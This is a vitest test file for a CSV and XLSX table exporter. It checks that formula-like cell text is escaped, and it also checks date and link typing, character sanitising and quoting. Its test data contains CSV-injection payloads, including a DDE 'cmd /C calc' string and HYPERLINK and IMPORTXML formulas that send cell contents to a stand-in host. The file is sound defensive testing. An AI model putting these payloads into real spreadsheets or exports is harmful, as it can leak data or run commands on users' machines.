import { expect, test } from 'vitest'
import { dayCell, linkCell, longestCell, looksLikeFormula, writable } from '#exports/cells.ts'
import { openTable } from '#exports/table.ts'
import type { TableOptions } from '#exports/table-writer.ts'
import type { Row } from '#exports/cells.ts'
import { readXlsx } from '../support/read-xlsx.ts'

/** OWASP, "CSV Injection": what a cell must not begin with, and what the attacks of its examples begin with. */
const dangerous = [
  '=1+1',
  '+1+1',
  '-1+1',
  '@SUM(1+1)',
  '\t=1+1',
  '\r=1+1',
  '\n=1+1',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(1+1)',
  '  =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\u200b=1+1',
  '\ufeff=1+1',
  `=cmd|' /C calc'!A0`,
  '=HYPERLINK("http://weir.example?leak="&A1,"Error")',
  '=IMPORTXML(CONCAT("http://weir.example/",A2),"//a")',
  '-2+3+cmd|" /C calc"!A0',
  '@SUM(1+9)*cmd|" /C calc"!A0',
  '+49 30 1234',
]
const harmless = ['', ' ', 'a=1', 'Gene–environment', '−5', '-12.5', '+3', '1-2', '“=quoted”', '漢字', 'قيمة']

test('A26 a text that could be read as a formula is recognised, and a number is none', () => {
  expect(dangerous.filter(text => !looksLikeFormula(text))).toEqual([])
  expect(harmless.filter(looksLikeFormula)).toEqual([])
})

const options: TableOptions = { columns: [{ label: 'Text', width: 20 }], title: 'Texts', bom: false }
function fileOf(format: 'csv' | 'xlsx', rows: readonly Row[], about: readonly Row[] = [], more: Partial<TableOptions> = {}): Buffer {
  const pieces: Uint8Array[] = []
  const table = openTable(format, { ...options, ...more }, bytes => pieces.push(bytes))
  table.write(rows)
  table.end(about)
  return Buffer.concat(pieces)
}

test('A26 in both formats such a text is no formula: in csv behind an apostrophe, in xlsx a text that stays one', async () => {
  const csv = fileOf(
    'csv',
    dangerous.map(text => [text]),
    [],
    { columns: [{ label: '=1+1', width: 1 }] },
  ).toString()
  const fields = [...csv.matchAll(/(?:^|\r\n)(?:"((?:[^"]|"")*)"|([^\r\n]*))(?=\r\n)/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain,
  )
  expect(fields).toEqual(["'=1+1", ...dangerous.map(text => `'${writable(text).replace(/^[\t\n]/, "$&'")}`)])

  const [sheet] = await readXlsx(
    fileOf(
      'xlsx',
      dangerous.map(text => [text]),
    ),
  )
  const cells = sheet!.rows.slice(1).map(row => [...row.values()][0]!)
  expect(cells.map(({ value }) => value)).toEqual(dangerous.map(writable))
  expect(cells.filter(({ isQuoted, format }) => !isQuoted || format !== '49')).toEqual([])
  const [plain] = await readXlsx(fileOf('xlsx', [['Plain']]))
  expect(plain!.rows[1]!.get('A2')).toMatchObject({ value: 'Plain', isQuoted: false })
})

test('A26 a csv file that is opened with another separator begins no formula at it, nor at a line break', () => {
  const texts = ['Ada; =1+1', 'a;=1+1;@SUM(1)', 'a\t+cmd|x', 'a\r\n-1+HYPERLINK("x")', 'a\n\n =1']
  const harmless = ['Ada; Ben', 'a; -5', 'a - b; c = d', '"x, =1"', '"Arms:\n- one (n = 5)\n+ two"']
  const csv = fileOf(
    'csv',
    texts.map(text => ['first', text]),
  ).toString()
  expect(csv.split(/[;\t\n]/).filter(cell => /^["\s]*[=+\-@]/.test(cell))).toEqual([])
  expect(csv).toContain("first,Ada; '=1+1\r\n")
  const kept = fileOf(
    'csv',
    harmless.map(text => ['first', text.replaceAll('"', '')]),
  ).toString()
  expect(kept).toBe(`Text\r\n${harmless.map(text => `first,${text}\r\n`).join('')}`)
})

test('numbers, days, times and links are typed; what is none of them stays as it is written', async () => {
  const rows: Row[] = [
    [-5, dayCell('2024-02-29'), { moment: Date.UTC(2026, 10, 24, 18, 5, 7, 900) }, linkCell('10.5555/x', 'https://doi.org/10.5555/x')],
    [0.1, dayCell('1899-12-31'), undefined, linkCell('javascript:alert(1)')],
    [Number.NaN, dayCell('2023-02-29'), undefined, linkCell('no "address"', 'https://weir.example/"')],
    [1e21, dayCell('2019'), undefined, undefined],
    [2, dayCell('2019-03'), undefined, undefined],
  ]
  const columns = ['Number', 'Day', 'Time', 'Link'].map(label => ({ label, width: 12 }))
  const [sheet, about] = await readXlsx(fileOf('xlsx', rows, [['Address', linkCell('https://weir.example/?a=1&b=2')]], { columns }))
  expect([sheet!.name, sheet!.frozen, about!.name, about!.frozen]).toEqual(['Texts', 1, 'About', 0])
  expect([...sheet!.rows[0]!.values()].map(({ value, isBold }) => [value, isBold])).toEqual(columns.map(({ label }) => [label, true]))
  const at = (cell: string) => sheet!.rows[Number(cell.slice(1)) - 1]!.get(cell)
  expect(at('A2')).toMatchObject({ value: -5, format: '0', isBold: false })
  // 2024-02-29 is day 45351 of spreadsheets.
  expect(at('B2')).toMatchObject({ value: 45_351, format: String.raw`yyyy\-mm\-dd` })
  expect(at('C2')!.value).toBeCloseTo(46_350 + (18 * 3600 + 5 * 60 + 7) / 86_400, 9)
  expect(at('D2')).toMatchObject({ value: '10.5555/x', link: 'https://doi.org/10.5555/x' })
  expect(['B3', 'D3', 'A4', 'B4', 'D4'].map(cell => at(cell)?.value)).toEqual([
    '1899-12-31',
    'javascript:alert(1)',
    undefined,
    '2023-02-29',
    'no "address"',
  ])
  expect([at('D3')!.link, at('D4')!.link, at('B5')!.value, at('B6')!.value, at('A5')!.value]).toEqual([
    undefined,
    undefined,
    2019,
    '2019-03',
    1e21,
  ])
  expect(about!.rows[0]!.get('B1')).toMatchObject({ value: 'https://weir.example/?a=1&b=2', link: 'https://weir.example/?a=1&b=2' })

  const csv = fileOf('csv', rows, [], { columns }).toString().split('\r\n')
  expect(csv[1]).toBe('-5,2024-02-29,2026-11-24T18:05:07.900Z,10.5555/x')
  expect(csv[3]).toBe(',2023-02-29,,"no ""address"""')
})

test('texts that one of the formats cannot hold are made whole: control characters, halves of pairs, too many characters', async () => {
  const long = `${'a'.repeat(longestCell - 2)}😀 and more`
  const texts = [
    'a\u0000b\u0008c\u001fd\ufffe',
    'half \ud83d pair \ude00',
    'line\r\nbreak\rhere',
    long,
    '_x0041_ stays',
    '<b>&amp;"\'',
    ' spaces ',
  ]
  const written = [
    'abcd',
    'half \ufffd pair \ufffd',
    'line\nbreak\nhere',
    `${'a'.repeat(longestCell - 2)}…`,
    '_x0041_ stays',
    '<b>&amp;"\'',
    ' spaces ',
  ]
  const [sheet] = await readXlsx(
    fileOf(
      'xlsx',
      texts.map(text => [text]),
    ),
  )
  expect(sheet!.rows.slice(1).map((row, at) => row.get(`A${at + 2}`)!.value)).toEqual(written)
  expect(written.every(text => text.length <= longestCell)).toBe(true)
})

test('a csv file has a byte order mark if it is wished, lines that end with CRLF, and quotes where they are needed', () => {
  const rows: Row[] = [['a,b'], ['say "hi"'], ['two\nlines'], ['漢字 عربي'], [undefined]]
  expect(fileOf('csv', rows, [], { bom: true }).toString()).toBe('\ufeffText\r\n"a,b"\r\n"say ""hi"""\r\n"two\nlines"\r\n漢字 عربي\r\n\r\n')
  expect(fileOf('csv', rows).toString().startsWith('Text')).toBe(true)
})

test('the same rows make the same bytes, however they come and whatever the time', () => {
  const rows = Array.from({ length: 3000 }, (_, n): Row => [`Row ${n} 😀 ${'x'.repeat(n % 90)}`])
  const apart = (portion: number): Buffer => {
    const pieces: Uint8Array[] = []
    const table = openTable('xlsx', options, bytes => pieces.push(bytes))
    for (let at = 0; at < rows.length; at += portion) table.write(rows.slice(at, at + portion))
    table.end([['Written', rows.length]])
    return Buffer.concat(pieces)
  }
  expect(apart(7).equals(apart(3000))).toBe(true)
})
